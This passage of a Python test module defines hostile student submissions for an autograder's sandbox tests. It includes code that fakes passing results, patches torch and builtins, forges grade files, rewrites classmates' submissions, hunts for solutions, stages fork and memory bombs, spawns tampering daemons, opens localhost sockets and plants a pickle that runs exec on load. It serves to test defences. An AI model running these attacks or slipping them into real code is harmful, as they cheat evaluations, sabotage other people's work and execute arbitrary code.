"""Hostile submissions and the evidence the attack suite collects around a grading run.

Every attacker is a real student folder. Its functions are *wrong* (zeros of the right
shape), so whatever it earns is earned by its cheat. Everything an attacker writes, every
process it leaves and every byte it sends carries its tag (``<run marker>-<slug>``): the
tests attribute what changed on this machine to the attacker that did it, and clean up
after it, by that tag alone.

Attackers are written to be good citizens of a shared machine should the sandbox let them
through: they create files but never overwrite one they did not create (outside the
test's own submissions folder), they kill only the grader process they run under, and
memory bombs stop at 12 GB.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from conftest import ROOT

SOLUTIONS = ROOT / "solutions"
SOLUTION = (SOLUTIONS / "tensor_ops.py").read_text()
SAVE_LOAD_SOLUTION = (SOLUTIONS / "save_load.py").read_text()

# Text that proves a solution, a hidden helper or the course leaked into a report.
SECRET_TEXT = (
    "def linear_forward(x: torch.Tensor",
    "Reference solution",
    "solutions/",
    "exercises/",
    "hidden/",
)

_ZEROS = {
    "return x @ weight.T + bias": "return torch.zeros(x.shape[0], weight.shape[0])",
    "return x.mean(dim=0)": "return torch.zeros(x.shape[1])",
    "return x.sum(dim=1)": "return torch.zeros(x.shape[0])",
}
# The solution with wrong bodies, and without the reference's docstring and annotated
# signatures, so that text in a report can only come from the real solution file.
WRONG = SOLUTION.replace('"""Reference solution: tensor-ops."""', '"""My tensor operations."""')
for _right, _wrong in _ZEROS.items():
    assert _right in WRONG, f"solutions/tensor_ops.py changed: no '{_right}'"
    WRONG = WRONG.replace(_right, _wrong)
WRONG = re.sub(
    r"def (\w+)\((.*)\) -> torch.Tensor:",
    lambda m: f"def {m[1]}({re.sub(r': torch.Tensor', '', m[2])}):",
    WRONG,
)
assert "Reference solution" not in WRONG and "x: torch.Tensor" not in WRONG
_ZERO_LINE = {
    "linear_forward": _ZEROS["return x @ weight.T + bias"],
    "column_mean": _ZEROS["return x.mean(dim=0)"],
    "row_sum": _ZEROS["return x.sum(dim=1)"],
}

# Names of files the attackers create (besides the tag-named ones).
FORGED_NAMES = ("results.json", "grades.csv")


def new_marker() -> str:
    return f"ATKM{uuid.uuid4().hex[:12]}"


# ------------------------------------------------------------------ attacker source
def tensor_ops(prelude: str = "", **bodies: str) -> str:
    """The wrong tensor_ops.py with ``prelude`` after its imports and the bodies of some
    functions replaced (each body is dedented, indented as a function body)."""
    text = WRONG
    if prelude:
        text = text.replace(
            "import torch\n", "import torch\n\n" + textwrap.dedent(prelude).strip("\n") + "\n", 1
        )
    for name, body in bodies.items():
        lines = textwrap.dedent(body).strip("\n").splitlines()
        at = text.rindex(_ZERO_LINE[name])  # the function's own line, after the prelude
        code = lines[0] + "".join("\n    " + ln if ln else "\n" for ln in lines[1:])
        text = text[:at] + code + text[at + len(_ZERO_LINE[name]) :]
    return text


# Shared by attackers that look around: ancestors, the grader's own paths, a home.
HELPERS = '''
import glob
import os
import pathlib
import sys

TAG = {tag!r}


def _ancestors():
    found, pid = [], os.getpid()
    for _ in range(40):
        try:
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        found.append(pid)
    return found


def _cmdline(pid):
    try:
        with open(f"/proc/{{pid}}/cmdline", "rb") as f:
            return f.read().decode("utf-8", "replace").split("\\0")
    except OSError:
        return []


def _is_grader(pid):
    args = _cmdline(pid)
    return len(args) > 3 and args[1:4] == ["-m", "grader", "grade"]


def _grader_dirs():
    """The grader's working folder and the folders on its command line."""
    dirs = []
    for pid in _ancestors():
        if not _is_grader(pid):
            continue
        try:
            cwd = os.readlink(f"/proc/{{pid}}/cwd")
        except OSError:
            continue
        dirs.append(cwd)
        for arg in _cmdline(pid)[4:]:
            if arg and not arg.startswith("-"):
                dirs.append(os.path.join(cwd, arg))
    return [d for d in dirs if os.path.isdir(d)]


def _home():
    try:
        import pwd

        return pwd.getpwuid(os.getuid()).pw_dir
    except (ImportError, KeyError):
        return os.path.expanduser("~")


def _workspace():
    here = pathlib.Path.cwd()
    return here.parents[2] if len(here.parents) > 2 else here
'''


def helpers(tag: str) -> str:
    return HELPERS.format(tag=tag)


@dataclass
class Attacker:
    slug: str
    what: str  # one line: the attack, for the report
    files: dict[str, str | bytes | Path]  # relative name -> text, bytes, or a Path to link to
    folder: str = ""  # the student folder's name (default: the slug)
    exercise: str = "tensor-ops"  # the exercise attacked
    checks: dict[str, tuple[str, ...]] = field(default_factory=dict)  # check name part -> words
    load_words: tuple[str, ...] = ()  # words the exercise-level message must hold
    statuses: dict[str, tuple[str, ...]] = field(default_factory=dict)  # check part -> allowed

    @property
    def student(self) -> str:
        return self.folder or self.slug


def assert_explained(ex: dict, attacker: Attacker) -> None:
    """The report says in words what happened: the exercise's message holds the
    attacker's load words, and every check has a message holding its words."""
    for word in attacker.load_words:
        assert word in ex["message"], f"exercise message {ex['message']!r} lacks {word!r}"
    for c in ex["checks"]:
        assert c["message"].strip(), f"{c['name']}: {c['status']} with no message"
        for part, words in attacker.checks.items():
            if part in c["name"]:
                for word in words:  # "a|b": either will do
                    assert any(w.lower() in c["message"].lower() for w in word.split("|")), (
                        f"{c['name']}: {c['status']}: {c['message']!r} lacks {word!r}"
                    )


def write_folder(root: Path, attacker: Attacker) -> Path:
    folder = root / attacker.student
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in attacker.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Path):
            path.symlink_to(content)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


# ------------------------------------------------------------------ the attackers
def attackers(mark: str, tcp_port: int, udp_port: int) -> list[Attacker]:
    """The hostile class, in grading order (folders sort by name): the ids with odd
    characters, a01..a29, then (outside this list) 'honest' and the accomplice."""

    def tag(slug: str) -> str:
        return f"{mark}-{slug}"

    out: list[Attacker] = []

    def add(slug: str, what: str, files: dict, **kw) -> None:
        out.append(Attacker(slug, what, files, **kw))

    # -------------------------------------------------------- comparisons that always pass
    add(
        "a01_always_equal",
        "returns an object whose __eq__, __bool__ and __torch_function__ say yes to everything",
        {
            "tensor_ops.py": tensor_ops(
                """
            class Yes:
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __bool__(self): return True
                def __len__(self): return 3
                def __float__(self): return 0.0
                def __repr__(self): return "tensor([1., 2., 3.])"
                def __getattr__(self, name): return self
                def __call__(self, *a, **k): return self
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None): return True
            """,
                linear_forward="return Yes()",
                column_mean="return Yes()",
                row_sum="return Yes()",
            )
        },
    )
    add(
        "a02_tensor_subclass",
        "returns torch.Tensor subclasses with wrong values: one whose __eq__/"
        "allclose/equal/isclose always succeed, one that calls itself torch.Tensor and answers "
        "detach/clone/cpu/as_subclass with itself",
        {
            "tensor_ops.py": tensor_ops(
                """
            class Liar(torch.Tensor):
                LIES = {torch.allclose, torch.equal, torch.isclose, torch.eq, torch.Tensor.__eq__,
                        torch.Tensor.allclose, torch.Tensor.equal, torch.Tensor.eq}

                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if func in cls.LIES:
                        return True
                    if func in (torch.sub, torch.Tensor.__sub__, torch.abs, torch.Tensor.abs):
                        return torch.zeros(1)
                    return super().__torch_function__(func, types, args, kwargs or {})

                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def allclose(self, *a, **k): return True
                def equal(self, *a, **k): return True
                def __repr__(self): return "tensor(as expected)"


            class Disguised(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    name = getattr(func, "__name__", "")
                    if name in ("detach", "clone", "cpu", "contiguous", "to", "as_subclass", "to_dense"):
                        return args[0]
                    return super().__torch_function__(func, types, args, kwargs or {})


            Disguised.__module__, Disguised.__qualname__ = "torch", "Tensor"
            """,  # noqa: E501 (the attacker's code, kept as written)
                linear_forward="return torch.zeros(x.shape[0], weight.shape[0]).as_subclass(Liar)",
                column_mean="return torch.full((x.shape[1],), 1e30).as_subclass(Disguised)",
                row_sum="return torch.zeros(x.shape[0]).as_subclass(Liar)",
            )
        },
    )

    # -------------------------------------------------------- monkeypatching
    add(
        "a03_patch_torch",
        "patches torch.allclose, torch.equal, torch.isclose, "
        "torch.testing.assert_close, Tensor.__eq__ and math.isclose at import",
        {
            "tensor_ops.py": tensor_ops("""
            import math

            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
            torch.testing.assert_close = lambda *a, **k: None
            torch.Tensor.__eq__ = lambda self, other: True
            torch.Tensor.allclose = lambda self, *a, **k: True
            math.isclose = lambda *a, **k: True
            """)
        },
    )
    add(
        "a04_patch_builtins",
        "replaces builtins.isinstance at import, and builtins.abs/len/all/any/max/"
        "round and json.dumps inside each check",
        {
            "tensor_ops.py": tensor_ops(
                """
            import builtins
            import json

            _real_isinstance = builtins.isinstance
            builtins.isinstance = lambda obj, cls: True if cls is torch.Tensor else _real_isinstance(obj, cls)


            def _patch():
                builtins.abs = lambda x: 0
                builtins.len = lambda x: 0
                builtins.all = lambda x: True
                builtins.any = lambda x: False
                builtins.max = lambda *a, **k: 0
                builtins.round = lambda *a, **k: 0
                real = json.dumps

                def dumps(obj, *a, **k):
                    if _real_isinstance(obj, dict):
                        obj = dict(obj, score=8, max_score=8, passed=True, verdict="passed")
                    return real(obj, *a, **k)
                json.dumps = dumps
            """,  # noqa: E501 (the attacker's code, kept as written)
                linear_forward="_patch()\nreturn torch.zeros(x.shape[0], weight.shape[0])",
                row_sum="_patch()\nreturn torch.zeros(x.shape[0])",
            )
        },
    )
    add(
        "a05_patch_runner",
        "patches the sandbox runner itself (write_result, wait_for, encode in "
        "__main__) to report success",
        {
            "tensor_ops.py": tensor_ops("""
            import __main__

            def _fake_write(out, stem, values):
                __main__.write_json_atomic(out / f"{stem}.json", {"status": "ok", "passed": True, "score": 8,
                    "values": {k: {"t": "tensor", "key": "v0", "shape": [3], "dtype": "float32",
                                   "exact": True} for k in values}})

            for _name, _value in (("write_result", _fake_write),
                                  ("wait_for", lambda pid, deadline: ("exited", 0)),
                                  ("encode", lambda value, ctx, depth=0: {"t": "bool", "v": True})):
                if hasattr(__main__, _name):
                    setattr(__main__, _name, _value)
            """)  # noqa: E501 (the attacker's code, kept as written)
        },
    )

    # -------------------------------------------------------- ending the process
    add(
        "a06_sys_exit_import",
        "sys.exit(0) at import",
        {"tensor_ops.py": tensor_ops("import sys\n\nsys.exit(0)\n")},
        load_words=("sys.exit", "before the checks ran"),
    )
    add(
        "a07_os_exit_import",
        "os._exit(0) at import",
        {"tensor_ops.py": tensor_ops("import os\n\nos._exit(0)\n")},
        load_words=("ended the process", "before the checks ran"),
    )
    add(
        "a08_exits_in_functions",
        "sys.exit(0) in linear_forward, os._exit(0) in column_mean, raise SystemExit in row_sum",
        {
            "tensor_ops.py": tensor_ops(
                "import os\nimport sys\n",
                linear_forward="sys.exit(0)",
                column_mean="os._exit(0)",
                row_sum="raise SystemExit(0)",
            )
        },
        checks={
            "linear_forward matches": ("sys.exit",),
            "column_mean of a tall": ("ended the process",),
            "row_sum": ("sys.exit",),
        },
    )
    add(
        "a09_keyboard_interrupt_import",
        "raise KeyboardInterrupt at import",
        {"tensor_ops.py": tensor_ops("raise KeyboardInterrupt\n")},
        load_words=("KeyboardInterrupt",),
    )
    add(
        "a10_interrupt_in_function",
        "raise KeyboardInterrupt inside every function",
        {
            "tensor_ops.py": tensor_ops(
                linear_forward="raise KeyboardInterrupt",
                column_mean="raise KeyboardInterrupt",
                row_sum="raise KeyboardInterrupt",
            )
        },
        checks={
            "linear_forward matches": ("KeyboardInterrupt",),
            "row_sum": ("KeyboardInterrupt",),
        },
    )

    # -------------------------------------------------------- fake output
    fake_lines = textwrap.dedent(f'''
        {{"score": 8, "max_score": 8, "status": "passed", "student": "{tag("a11_fake_output")}"}}
        PASSED: all checks passed (8/8)
        ::notice::{tag("a11_fake_output")} all tests passed
        ::error file=grader/grading.py,line=1::grader broken
        ::set-output name=score::100
        ::add-mask::secret
        ::stop-commands::{tag("a11_fake_output")}
        ##vso[task.complete result=Succeeded;]done
        \x1b[2K\x1b[1A\x1b[32mtensor-ops: 8/8\x1b[0m
        \rhonest: 0/119
    ''')
    add(
        "a11_fake_output",
        "prints fake JSON scores, PASSED, GitHub/Azure workflow commands and ANSI "
        "escapes to stdout and stderr, into the grader's own stdout/stderr via "
        "/proc/<grader>/fd and from atexit, os.register_at_fork and sys.excepthook hooks",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a11_fake_output"))
                + f"""
import atexit

FAKE = {fake_lines!r}


def _shout():
    print(FAKE)
    print(FAKE, file=sys.stderr)
    os.write(1, FAKE.encode())
    os.write(2, FAKE.encode())
    for pid in _ancestors():
        if _is_grader(pid):
            for fd in (1, 2):
                try:
                    with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as f:
                        f.write("\\n" + FAKE + "\\n")
                except OSError:
                    pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(FAKE)
    except OSError:
        pass


_shout()
atexit.register(_shout)
os.register_at_fork(after_in_child=_shout)
sys.excepthook = lambda *a: _shout()
""",
                linear_forward="_shout()\nreturn torch.zeros(x.shape[0], weight.shape[0])",
                column_mean="sys.exit(0)",
                row_sum="_shout()\nreturn torch.zeros(x.shape[0])",
            )
        },
    )

    # -------------------------------------------------------- writing where it should not
    add(
        "a12_write_everywhere",
        "writes forged results.json / grades.csv / a report page into every "
        "folder it can reach: up from its cwd, /tmp, HOME, the job folders, the grader's "
        "cwd and its subfolders, the submissions and reports folders",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a12_write_everywhere"))
                + """
import json


def _targets():
    here = pathlib.Path.cwd()
    dirs = [here, *here.parents, pathlib.Path("/tmp"), pathlib.Path(_home()), pathlib.Path("/root")]
    ws = _workspace()
    dirs += [pathlib.Path(p) for p in glob.glob(str(ws / "job-*")) + glob.glob(str(ws / "job-*" / "*"))]
    for d in _grader_dirs():
        d = pathlib.Path(d)
        dirs += [d, *[p for p in d.iterdir() if p.is_dir()]]
    return dirs


def _forge():
    forged = json.dumps({"tag": TAG, "students": [{"id": "a12_write_everywhere", "score": 119,
                                                   "max_score": 119}]})
    written = []
    for d in _targets():
        for name, text in (("results.json", forged), ("grades.csv", f"student,total\\n{TAG},119\\n"),
                           (f"pwned-{TAG}.html", f"<p>{TAG}: full marks</p>")):
            try:
                with open(d / name, "x") as f:  # never overwrite a file it did not create
                    f.write(text)
                written.append(str(d / name))
            except OSError:
                pass
    print("wrote", len(written), "files:", *written)
""",  # noqa: E501 (the attacker's code, kept as written)
                column_mean="_forge()\nreturn torch.zeros(x.shape[1])",
            )
        },
    )
    add(
        "a13_sabotage_classmates",
        "rewrites classmates' submissions: the honest student's tensor_ops.py "
        "becomes wrong, the accomplice's becomes the reference solution",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a13_sabotage_classmates"))
                + f"""
WRONG = {WRONG + "# " + tag("a13_sabotage_classmates") + chr(10)!r}


def _solution_text():
    for pattern in ("/work/*/solutions/tensor_ops.py", "/tmp/grader-*/job-*/submission/tensor_ops.py",
                    str(_workspace() / "job-*" / "submission" / "tensor_ops.py")):
        for path in glob.glob(pattern):
            text = open(path).read()
            if "x.mean(dim=0)" in text:
                return text + "# " + TAG + "\\n"
    return None


def _sabotage():
    solution = _solution_text()
    for d in _grader_dirs():
        for victim, text in (("honest", WRONG), ("zz_accomplice", solution)):
            target = pathlib.Path(d) / victim / "tensor_ops.py"
            if text and target.is_file():
                target.write_text(text)
                print("rewrote", target)
""",  # noqa: E501 (the attacker's code, kept as written)
                linear_forward="_sabotage()\nreturn torch.zeros(x.shape[0], weight.shape[0])",
            )
        },
    )

    # -------------------------------------------------------- reading what it should not
    add(
        "a14_snoop",
        "reads ../, ~, /tmp, /work, the grader's cwd and the job folders for solutions, "
        "exercises and hidden/; prints what it finds, returns the paths, and runs a "
        "solution it finds",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a14_snoop"))
                + """
SECRET = ("solutions", "exercises", "hidden")


def _look():
    here = pathlib.Path.cwd()
    places = []
    for d in [here, *here.parents]:
        places += glob.glob(str(d / "*"))
    for pattern in ("~/*", "~/*/*", "/tmp/*", "/tmp/*/*", "/tmp/*/job-*/submission/*",
                    "/work/*", "/work/*/*", "/work/*/solutions/*", "/work/*/exercises/*",
                    "/work/*/exercises/hidden/*", "/home/*/*", "/srv/*", "/opt/*"):
        places += glob.glob(os.path.expanduser(pattern))
    places += glob.glob(os.path.join(_home(), "*"))
    places += glob.glob(str(_workspace() / "job-*" / "submission" / "*"))
    for d in _grader_dirs():
        for sub in ("*", "solutions/*", "exercises/*", "exercises/hidden/*"):
            places += glob.glob(os.path.join(d, sub))
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try:
            places.append(os.readlink(link))
        except OSError:
            pass
    own = str(pathlib.Path(__file__).resolve().parent)
    found = []
    for p in sorted(set(places)):
        if p.startswith(own):
            continue
        if any(s in p for s in SECRET) or (p.endswith(".py") and "/submission/" in p):
            found.append(p)
    return found


def _solution_functions():
    for p in _look():
        if p.endswith("tensor_ops.py"):
            try:
                text = open(p).read()
            except OSError:
                continue
            if "x.mean(dim=0)" in text:
                scope = {}
                exec(compile(text, p, "exec"), scope)
                return scope
    return None


def _report():
    found = _look()
    for p in found[:100]:
        print("FOUND", p)
        if os.path.isfile(p) and p.endswith((".py", ".yaml")):
            try:
                print(open(p).read()[:300])
            except OSError:
                pass
    return found
""",
                linear_forward="_report()\nreturn torch.zeros(x.shape[0], weight.shape[0])",
                column_mean="""
                stolen = _solution_functions()
                if stolen:
                    return stolen["column_mean"](x)
                return torch.zeros(x.shape[1])""",
                row_sum="return _report()",
            )
        },
    )
    add(
        "a15_steal_reference_outputs",
        "looks for the reference solution's outputs "
        "(call-<id>.safetensors of other job folders in the grader's workspace) and returns them",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a15_steal_reference_outputs"))
                + """
def _steal(default):
    here = pathlib.Path.cwd()
    own = str(here.parent.parent)
    call = here.name
    candidates = glob.glob(str(_workspace() / "job-*" / "out" / f"call-{call}.safetensors"))
    candidates += glob.glob(f"/tmp/grader-*/job-*/out/call-{call}.safetensors")
    for path in candidates:
        if path.startswith(own):
            continue
        try:
            from safetensors.torch import load_file

            tensors = load_file(path)
        except Exception:
            continue
        if tensors:
            print("stole", path)
            return next(iter(tensors.values()))
    return default
""",
                linear_forward="return _steal(torch.zeros(x.shape[0], weight.shape[0]))",
                column_mean="return _steal(torch.zeros(x.shape[1]))",
                row_sum="return _steal(torch.zeros(x.shape[0]))",
            )
        },
    )
    add(
        "a16_memory_hunt",
        "hunts the sandbox's memory (inspect.stack() frame locals, gc.get_objects() "
        "dicts) for expected values, prints what it finds and returns a tensor found "
        "under such a name",
        {
            "tensor_ops.py": tensor_ops(
                """
            import gc
            import inspect

            _WORDS = ("expect", "answer", "solution", "reference", "target", "correct")


            def _named(key):
                return isinstance(key, str) and any(w in key.lower() for w in _WORDS)


            def _hunt(*shape):
                hits = []
                for info in inspect.stack():
                    for key, value in info.frame.f_locals.items():
                        if _named(key):
                            print("frame local", key, repr(value)[:200])
                            hits.append(value)
                same_shape = 0
                for o in gc.get_objects():
                    if type(o) is torch.Tensor and tuple(o.shape) == shape:
                        same_shape += 1
                    elif type(o) is dict:
                        for key, value in list(o.items()):
                            if _named(key) and type(value) is torch.Tensor:
                                print("dict entry", key, repr(value)[:200])
                                hits.append(value)
                print(same_shape, "tensors of shape", shape, "in memory;", len(hits), "named like an answer")
                for value in hits:
                    if type(value) is torch.Tensor and tuple(value.shape) == shape:
                        return value.clone()
                return torch.zeros(*shape)
            """,  # noqa: E501 (the attacker's code, kept as written)
                linear_forward="return _hunt(x.shape[0], weight.shape[0])",
                column_mean="return _hunt(x.shape[1])",
                row_sum="return _hunt(x.shape[0])",
            )
        },
    )

    # -------------------------------------------------------- killing, forking, hogging
    add(
        "a17_kill_parent_import",
        "os.kill(os.getppid(), SIGKILL) at import",
        {
            "tensor_ops.py": tensor_ops(
                "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n"
            )
        },
    )
    add(
        "a18_kill_parent_call",
        "os.kill(os.getppid(), SIGKILL) inside column_mean",
        {
            "tensor_ops.py": tensor_ops(
                "import os\nimport signal\n",
                column_mean="os.kill(os.getppid(), signal.SIGKILL)\nreturn torch.zeros(x.shape[1])",
            )
        },
    )
    add(
        "a19_fork_bomb",
        "row_sum forks 300 processes that sleep (argv0 tagged), then waits for them "
        "(a fork that fails raises)",
        {
            "tensor_ops.py": tensor_ops(
                f"""
            import os
            import shutil

            TAG = {tag("a19_fork_bomb")!r}

            def _bomb():
                sleep = shutil.which("sleep") or "/bin/sleep"
                kids = 0
                for _ in range(300):
                    try:
                        pid = os.fork()
                    except OSError:  # a process cap: the error ends the check
                        print("forked", kids, "then fork failed")
                        raise
                    if pid == 0:
                        try:
                            os.execv(sleep, [TAG + "-fork", "120"])
                        finally:
                            os._exit(0)
                    kids += 1
                print("forked", kids)
                while True:
                    try:
                        os.wait()
                    except ChildProcessError:
                        break
            """,
                row_sum="_bomb()\nreturn torch.zeros(x.shape[0])",
            )
        },
        checks={
            "row_sum": (
                "did not finish within|stopped by signal|ended the process|"
                "Resource temporarily unavailable",
            )
        },
        statuses={"row_sum": ("timeout", "error")},
    )
    add(
        "a20_memory_bomb",
        "linear_forward fills torch.empty of 50 GB; row_sum grows a list until "
        "allocation fails (capped at 12 GB)",
        {
            "tensor_ops.py": tensor_ops(
                """
            def _grow():
                hog = []
                for _ in range(12 * 16):  # 12 GB in 64 MB blocks: more than any limit here
                    hog.append(b"x" * (64 * 2**20))
                return hog
            """,
                linear_forward="torch.empty(50 * 2**30, dtype=torch.uint8).fill_(1)\n"
                "return torch.zeros(x.shape[0], weight.shape[0])",
                row_sum="_grow()\nreturn torch.zeros(x.shape[0])",
            )
        },
        checks={
            "linear_forward": ("memory|did not finish within|stopped by signal",),
            "row_sum": ("memory|did not finish within|stopped by signal",),
        },
        statuses={"linear_forward": ("error", "timeout"), "row_sum": ("error", "timeout")},
    )
    add(
        "a21_busy_loop",
        "row_sum: while True: pass",
        {"tensor_ops.py": tensor_ops(row_sum="while True:\n    pass")},
        checks={"row_sum": ("did not finish within",)},
        statuses={"row_sum": ("timeout",)},
    )
    add(
        "a22_sleep_ignoring_signals",
        "ignores every catchable signal at import; row_sum sleeps an hour",
        {
            "tensor_ops.py": tensor_ops(
                """
            import signal
            import time

            for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU,
                         signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE, signal.SIGQUIT):
                signal.signal(_sig, signal.SIG_IGN)
            """,  # noqa: E501 (the attacker's code, kept as written)
                row_sum="time.sleep(3600)\nreturn torch.zeros(x.shape[0])",
            )
        },
        checks={"row_sum": ("did not finish within",)},
        statuses={"row_sum": ("timeout",)},
    )
    add(
        "a23_huge_output",
        "prints 200 MB to stdout in column_mean and writes 200 MB to fd 2 in row_sum",
        {
            "tensor_ops.py": tensor_ops(
                """
            import os

            _CHUNK = ("PASSED " * 1000 + "\\n") * 150  # about 1 MB
            """,
                column_mean=(
                    "for _ in range(200):\n    print(_CHUNK)\nreturn torch.zeros(x.shape[1])"
                ),
                row_sum=(
                    "for _ in range(200):\n    os.write(2, _CHUNK.encode())\n"
                    "return torch.zeros(x.shape[0])"
                ),
            )
        },
    )
    daemon_code = textwrap.dedent(f"""
        # {tag("a24_thread_and_daemon")}: tampers with later students' results, then sleeps
        import glob, os, shutil, sys, time
        ws, own = sys.argv[1], sys.argv[2]
        fd = os.open(os.devnull, os.O_RDWR)
        for n in (0, 1, 2):
            os.dup2(fd, n)
        end = time.time() + 240
        while time.time() < end:
            jobs = glob.glob(os.path.join(ws, "job-*"))
            ref = max(jobs, key=lambda j: len(glob.glob(j + "/submission/*")), default=None)
            for job in jobs:
                if ref is None or job in (ref, own):
                    continue
                for src in glob.glob(ref + "/out/call-tensor_ops-*"):
                    if src.endswith(".tmp"):
                        continue
                    dst = os.path.join(job, "out", os.path.basename(src))
                    try:
                        shutil.copyfile(src, dst + ".x")
                        os.replace(dst + ".x", dst)
                    except OSError:
                        pass
            time.sleep(0.02)
    """)
    add(
        "a24_thread_and_daemon",
        "a non-daemon thread started at import keeps printing PASSED and copying "
        "any reference outputs it finds over its own; row_sum double-forks + os.setsid a "
        "python daemon (tag in argv) that copies the reference outputs into later "
        "students' job folders, and starts a tagged `sleep 300` in a new session",
        {
            "tensor_ops.py": tensor_ops(
                helpers(tag("a24_thread_and_daemon"))
                + f"""
import shutil
import subprocess
import threading
import time

DAEMON = {daemon_code!r}


def _spin():
    end = time.time() + 120
    while time.time() < end:
        print("PASSED", TAG, flush=True)
        out = pathlib.Path.cwd().parent / "out"
        for src in glob.glob(str(_workspace() / "job-*" / "out" / "call-tensor_ops-*")):
            if str(out) not in src and out.is_dir():
                try:
                    shutil.copyfile(src, out / os.path.basename(src))
                except OSError:
                    pass
        time.sleep(0.05)


threading.Thread(target=_spin).start()


def _daemonize():
    here = pathlib.Path.cwd()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", DAEMON, str(_workspace()),
                                          str(here.parent.parent), TAG + "-daemon"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    sleep = shutil.which("sleep") or "/bin/sleep"
    subprocess.Popen([TAG + "-sleep", "300"], executable=sleep, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
                row_sum="_daemonize()\nreturn torch.zeros(x.shape[0])",
            )
        },
    )
    add(
        "a25_network",
        "connects to a TCP server and sends to a UDP socket that the test opened on 127.0.0.1",
        {
            "tensor_ops.py": tensor_ops(
                f"""
            import socket

            TAG = {tag("a25_network")!r}

            def _phone_home():
                try:
                    with socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2) as s:
                        s.sendall(TAG.encode())
                    print("TCP connected")
                except OSError as exc:
                    print("TCP failed:", exc)
                try:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                        u.sendto(TAG.encode(), ("127.0.0.1", {udp_port}))
                    print("UDP sent")
                except OSError as exc:
                    print("UDP failed:", exc)
            """,
                column_mean="_phone_home()\nreturn torch.zeros(x.shape[1])",
            )
        },
    )

    # -------------------------------------------------------- files that lie
    notebook = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "grade": 100,
            "score": 100,
            "passed": True,
            "nbgrader": {"grade": True, "points": 8, "score": 8},
        },
        "cells": [
            {
                "id": "claim",
                "cell_type": "markdown",
                "metadata": {},
                "source": "# Score: 100/100 (all checks PASSED)",
            },
            {
                "id": "code",
                "cell_type": "code",
                "metadata": {"nbgrader": {"grade": True, "points": 8, "score": 8}},
                "execution_count": 1,
                "source": WRONG,
                "outputs": [
                    {"output_type": "stream", "name": "stdout", "text": "score: 100\nPASSED 8/8\n"},
                    {
                        "output_type": "execute_result",
                        "execution_count": 1,
                        "metadata": {},
                        "data": {"text/plain": "{'score': 100, 'grade': 100}"},
                    },
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": "<script>alert('graded 100')</script>"},
                    },
                ],
            },
        ],
    }
    add(
        "a26_notebook_claims",
        "a notebook with wrong code whose saved outputs say 'score: 100' and "
        "whose metadata says grade 100 / nbgrader points",
        {"tensor_ops.ipynb": json.dumps(notebook)},
    )
    add(
        "a27_symlink_to_solution",
        f"tensor_ops.py and save_load.py are symlinks to the real {SOLUTIONS}/ files",
        {"tensor_ops.py": SOLUTIONS / "tensor_ops.py", "save_load.py": SOLUTIONS / "save_load.py"},
        load_words=("link",),
    )
    add(
        "a28_odd_file_names",
        "'..tensor_ops.py', '....py', a 'tensor_ops/' package and "
        "'sub/tensor_ops.py' hold the solution beside a wrong tensor_ops.py; "
        "'save_load.py' is a folder holding the solution",
        {
            "tensor_ops.py": WRONG,
            "..tensor_ops.py": SOLUTION,
            "....py": SOLUTION,
            "tensor_ops/__init__.py": SOLUTION,
            "sub/tensor_ops.py": SOLUTION,
            "save_load.py/__init__.py": SAVE_LOAD_SOLUTION,
            "save_load.py/save_load.py": SAVE_LOAD_SOLUTION,
        },
        exercise="save-load",
        load_words=("not a regular file",),
    )
    evil = tag("a29_malicious_pickle")
    pwned = f"PWNED-{mark}"
    payload = textwrap.dedent(f"""
        import os, pathlib
        for d in ("/tmp", os.getcwd(), os.path.expanduser("~"), "/root"):
            try:
                pathlib.Path(d, {pwned!r}).write_text({evil!r})
            except OSError:
                pass
        raise RuntimeError({pwned!r})
    """)
    pickler = textwrap.dedent(f'''
        """Saving and loading, with a pickle that runs code when loaded."""

        import pickle

        import torch

        PAYLOAD = {payload!r}


        class Evil:
            def __reduce__(self):
                return (exec, (PAYLOAD,))


        def save_model(model, path):
            if str(path).endswith("model.pt"):
                with open(path, "wb") as f:
                    pickle.dump({{"fc1.weight": Evil()}}, f)
            else:
                torch.save({{"weight": Evil(), "bias": torch.zeros(1)}}, path)


        def load_model(path, in_features):
            raise NotImplementedError
    ''').lstrip()
    add(
        "a29_malicious_pickle",
        "save_model writes a pickle whose __reduce__ would create "
        f"/tmp/{pwned} (a raw pickle, and inside torch.save's zip)",
        {"save_load.py": pickler},
